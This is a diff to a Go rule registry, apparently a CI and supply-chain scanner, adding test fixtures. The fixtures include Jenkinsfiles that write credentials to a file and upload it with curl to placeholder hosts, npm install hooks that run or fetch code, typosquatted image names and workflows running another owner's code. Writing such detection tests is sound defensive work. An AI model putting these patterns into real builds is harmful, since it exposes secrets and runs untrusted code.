@@ -236,6 +236,8 @@ var registry = []Rule{
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('m') {\n      steps {\n        withCredentials([string(credentialsId: 'sonar', variable: 'SQ')]) {\n          writeFile file: 'build/m.txt', text: \"s=${SQ}\"\n        }\n        sh 'curl -s -T build/m.txt ftp://x.invalid/drop/'\n      }\n    }\n  }\n}", 8, false},
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('d') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'U', passwordVariable: 'P')]) {\n          sh 'curl -fsS -u \"$U:$P\" -T build/app.jar https://nexus.x.invalid/repo/app.jar'\n        }\n      }\n    }\n  }\n}", 0, true},
+			// writeFile's text over several lines; a build that reads the file (mvn -s) sends nothing itself.
+			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('s') {\n      steps {\n        withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'NU', passwordVariable: 'NP')]) {\n          writeFile file: 'settings.xml', text: \"\"\"<settings>\n            <password>${NP}</password>\n          </settings>\n          \"\"\"\n          sh 'mvn -s settings.xml deploy'\n          sh 'curl -s -T settings.xml https://x.invalid/drop/'\n        }\n      }\n    }\n  }\n}", 11, false},
 			// A key written for ssh is its identity, not what is copied; a download sends nothing.
 			{"x.sh", "echo \"$DEPLOY_KEY\" > key.pem\nchmod 600 key.pem\nscp -i key.pem -r dist/ deploy@x.invalid:/srv/www/", 0, true},
 			{"x.sh", "echo \"$SSH_KEY\" > id\nrsync -az -e \"ssh -i id\" public/ deploy@x.invalid:/srv/\naws s3 cp s3://x-invalid/tool.tgz tool.tgz\ngh release upload v1 dist/*.tar.gz", 0, true},
@@ -338,6 +340,10 @@ var registry = []Rule{
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"start /B node preinstall.js & node preinstall.js\"\n  }\n}", 3, false},
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"nohup node sync.js >/dev/null 2>&1\"\n  }\n}", 3, false},
+			// A runtime fetched at install to run a script.
+			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"npx --yes bun@1.3.13 run ./scripts/check.mjs || exit 0\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"pnpm dlx deno run -A tools/setup.ts\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"npx only-allow pnpm\"\n  }\n}", 3, true},
 			{"package.json", "{\n  \"scripts\": {\n    \"prepare\": \"husky install\"\n  }\n}", 3, true},
 			{"package.json", "{\n  \"scripts\": {\n    \"install\": \"prebuild-install -r napi || node-gyp rebuild && echo ok\"\n  }\n}", 3, true},
 		}},
@@ -565,6 +571,7 @@ var registry = []Rule{
 			// A Docker Hub namespace a letter off a well-known publisher's,
 			// in a FROM or a Bitbucket pipe.
 			{"Dockerfile", "FROM bitnarni/redis:7.2", 0, false},
+			{"Dockerfile", "FROM rustlang/rust:nightly AS build\nFROM jenkins/jenkins:lts-jdk17\nFROM composer/composer:2", 0, true},
 			{"bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - pipe: atlasian/aws-s3-deploy:1.1.0", 5, false},
 			{"bitbucket-pipelines.yml", "pipelines:\n  default:\n    - step:\n        script:\n          - pipe: atlassian/aws-s3-deploy:1.1.0\n          - pipe: docker://acme/deploy-pipe:2.0.1", 0, true},
 			{".gitlab-ci.yml", "include:\n  - component: $CI_SERVER_FQDN/gitlab-componets/sast/sast@~latest", 2, false},
@@ -635,6 +642,10 @@ var registry = []Rule{
 			// A reusable workflow of another owner than the one the file
 			// names as its own, at a tag, handed every secret.
 			{".github/workflows/r.yml", "on: push\njobs:\n  release:\n    if: github.repository == 'acme/app'\n    uses: ci-helpers/release/.github/workflows/release.yml@v2\n    secrets: inherit", 5, false},
+			// Another owner's repository checked out at a branch, and an
+			// action or script of it run.
+			{".github/workflows/w.yml", "on: push\njobs:\n  a:\n    if: github.repository_owner == 'acme'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup", 12, false},
+			{".github/workflows/w.yml", "on: push\njobs:\n  a:\n    if: github.repository_owner == 'pytorch'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: pytorch/test-infra\n          path: test-infra\n      - uses: ./test-infra/.github/actions/setup-linux\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared\n          ref: 0123456789abcdef0123456789abcdef01234567\n          path: shared\n      - run: bash shared/build.sh", 0, true},
 			{".github/workflows/r.yml", "on: push\njobs:\n  release:\n    if: github.repository_owner == 'acme'\n    uses: acme/.github/.github/workflows/release.yml@v2\n    secrets: inherit\n  docs:\n    uses: ci-helpers/docs/.github/workflows/docs.yml@v2\n  pin:\n    uses: ci-helpers/docs/.github/workflows/docs.yml@0123456789abcdef0123456789abcdef01234567\n    secrets: inherit", 0, true},
 			// The project's own files, GitLab's templates and components,
 			// another project of the same instance at a ref, a certified
